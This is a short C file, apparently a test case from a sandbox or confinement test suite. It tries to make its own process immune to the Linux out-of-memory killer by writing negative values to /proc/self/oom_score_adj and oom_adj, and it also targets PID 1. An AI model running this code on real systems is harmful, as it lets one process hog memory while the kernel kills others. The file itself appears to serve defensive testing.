/* Makes itself immune to the out-of-memory killer, so that others die in its place (proc(5) oom_score_adj). */
#include "common/attack.h"

static void attempt(void) {
    static const char *scores[] = {"-1000", "-999", "-500", "-1"};
    for (unsigned i = 0; i < 4; i++) {
        put("/proc/self/oom_score_adj", scores[i]);
        put("/proc/1/oom_score_adj", scores[i]);
        put("/proc/self/oom_adj", "-17");
    }
    show("/proc/self/oom_score_adj");
    hold();
}
